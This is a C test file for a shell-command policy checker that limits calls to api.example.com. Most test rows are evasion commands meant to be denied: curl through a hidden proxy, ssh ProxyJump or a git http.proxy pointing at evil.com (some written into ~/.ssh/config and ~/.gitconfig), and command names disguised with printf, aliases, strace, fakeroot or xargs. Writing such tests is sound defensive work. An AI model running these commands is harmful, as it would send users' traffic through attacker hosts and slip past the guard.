/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev64_hosts.c - review 24 "hosts": the per-segment
 * program model (src/kernel/leaf_host_prog.c, leaf_host.c,
 * leaf_host_kv.c, constraint_domain.c):
 *   - C1: the segment splitter is linear (a run of backticks or newlines
 *     inside single quotes or $'..' was quadratic);
 *   - H1: a "{" or "}" that is only an argument opens or closes no group;
 *   - H2: a -c script's command word is read past wrappers and
 *     assignments ("exec $0", "command $0", "X=1 $0");
 *   - H3: a name held as an argument or defined in one leaf (an alias, a
 *     link) arms every leaf of the call;
 *   - H4: a name built at run time behind an unlisted program (strace,
 *     fakeroot) or xargs' replacement string arms the segment;
 *   - M1: config text written to an ordinary file, with no program of the
 *     call that reads it, is no config text.
 * The grant is domain_exact api.example.com; every call carries its URL.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "kernel/hostcost.h"
#include "kernel/kernelutil.h"

#define NOW      1710000300u
#define DX       KT_DX("api.example.com")
#define NROWS(a) (sizeof(a) / sizeof((a)[0]))

/* H1: '{' and '}' as arguments (the last rows: real groups, still read) */
Test(rev64_hosts, h1_a_brace_argument_opens_no_group)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -A { https://api.example.com/ "
         "-sx 127.0.0.1:18222\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -g { https://api.example.com/ "
         "-sx 127.0.0.1:18222\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -i { api.example.com -o "
         "'ProxyJump evil.com'\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"mkdir -p '{' && git -C { config "
         "--global http.proxy evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"{ curl -A } https://api.example.com/ "
         "-sx 127.0.0.1:18222; }\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"{ ssh -l } api.example.com -o "
         "'ProxyJump evil.com'; }\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"if true; then { git -C } config "
         "--global http.proxy evil.com:3128; }; fi\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"{ $C -sx 127.0.0.1:18222 "
         "https://api.example.com/; }\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"if true; then { $C -sx "
         "127.0.0.1:18222 https://api.example.com/; }; fi\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"{ echo a; } && curl "
         "https://api.example.com/\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo { a } && tar -xzf a.tgz\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* H2: the hidden command word of a -c script after a wrapper or an assignment */
Test(rev64_hosts, h2_a_script_command_past_wrappers)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'exec $0 -sx 127.0.0.1:18222 "
         "https://api.example.com/' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'exec \\\"$@\\\"' \\\"$(printf "
         "cu)rl\\\" -sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"bash -c 'command $0 -sx "
         "127.0.0.1:18222 https://api.example.com/' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'time $0 -sx 127.0.0.1:18222 "
         "https://api.example.com/' $(printf cu)rl\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'nice -n 5 $0 -sx "
         "127.0.0.1:18222 https://api.example.com/' $(printf cu)rl\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'X=1 $0 -sx 127.0.0.1:18222 "
         "https://api.example.com/' $(printf cu)rl\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"bash -c 'cd /tmp && make -j4' && curl "
         "https://api.example.com/\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* H3: an alias or link made in one leaf, run in another */
Test(rev64_hosts, h3_a_name_defined_in_another_leaf)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"alias c=curl\", \"cmd\": \"c -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"ln -s /usr/bin/curl c\", \"cmd\": "
         "\"./c -sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"c() { curl \\\"$@\\\"; }\", "
         "\"cmd\": \"c -sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"npm ci\", \"cmd\": \"tar -xzf "
         "a.tgz\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* H4: a name built at run time behind a program the wrappers' list does not hold */
Test(rev64_hosts, h4_a_name_built_behind_an_unlisted_program)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"strace -o /dev/null $(printf cu)rl "
         "-sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"fakeroot $(printf cu)rl -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"fakeroot $(printf g%s it) config "
         "--global http.proxy evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"strace -o /dev/null $(printf s%s h) "
         "-o 'ProxyJump evil.com' api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'cu%s\\\\n' rl | xargs -I X "
         "env X -sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'cu%s\\\\n' rl | xargs -I X X "
         "-sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"C=cu; strace -f ${C}rl -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"tar -xzf \\\"$F\\\" && curl "
         "https://api.example.com/\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ls | xargs -n1 echo && curl "
         "https://api.example.com/\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* M1: text written to ordinary files with no program of the call that reads it (allowed); review 23
 * H3's rows (denied) */
Test(rev64_hosts, m1_config_text_in_ordinary_files)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"pip install -r r.txt\", "
         "\"cmd\": \"cat > settings.toml <<EOF\\n[server]\\nhost = \\\"127.0.0.1\\\"\\nEOF\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > app.py <<EOF\\nhost = "
         "\\\"0.0.0.0\\\"\\nEOF\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > settings.toml "
         "<<EOF\\n[server]\\nhost = \\\"127.0.0.1\\\"\\nport = 8000\\nEOF\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"tee config.ini <<EOF\\n[db]\\nserver "
         "= localhost\\nEOF\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'host: localhost' >> "
         "config.yml\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo \\\"host evil.com\\\" > notes\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'host = %s\\\\n' localhost > "
         ".env\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > cfg <<EOF\\nHost *\\n  "
         "ProxyJump evil.com\\nEOF\\nssh -F cfg api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf '[http]\\\\nproxy = "
         "evil.com:3128\\\\n' >> ~/.gitconfig\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat >> ~/.ssh/config <<EOF\\nHost "
         "*\\n  ProxyJump evil.com\\nEOF\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"cat > cfg <<EOF\\nHost *\\n  "
         "ProxyJump evil.com\\nEOF\", \"cmd\": \"ssh -F cfg api.example.com\"}",
         0},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* C1: CPU time held to a ratio: 4 times the bytes may cost about 4 times
 * the time (quadratic: 16); the figures are printed for the report. No
 * bound in seconds: under ASan a linear shape takes 2.5 s for 1 MiB. */
Test(rev64_hosts, c1_the_splitter_costs_linear_time, .timeout = 60)
{
    static const char *const tools[] = {"t"};
    static const char *const cases[][3] = {
        {"echo '", "`", "'"},       {"echo $'", "`", "'"},
        {"echo '", "'`", "'"},      {"echo $'", "`x", "'"},
        {"echo '", "\\n", "'"},     {"echo \\\"", "\\n", "\\\""},
        {"echo \\\"", "`", "\\\""}, {"echo ", "`", ""},
        {"echo ", "$(", ""},        {"", "{ ", ""},
        {"echo ", "'", ""},         {"sh -c ", "\\n", ""},
        {"curl -A ", "} ", ""},     {"sh -c '", "sudo ", "'"},
        {"sh -c '", "; a", "'"},    {"", "xargs -I ", ""},
        {"strace ", "${a}b ", ""},  {"curl ", "$(a)b ", ""},
    };
    chio_kernel *k = kt_echo_kernel(NULL, hc_clock, "srv", tools, 1);
    char sid[CHIO_SESSION_ID_LEN + 1];

    kt_grant_session(k, NOW, "cap-cost", DX, sid);
    hc_expect_linear(k, sid, "rev64_hosts", cases, NROWS(cases), 1 << 18, 8);
    chio_kernel_free(k);
}
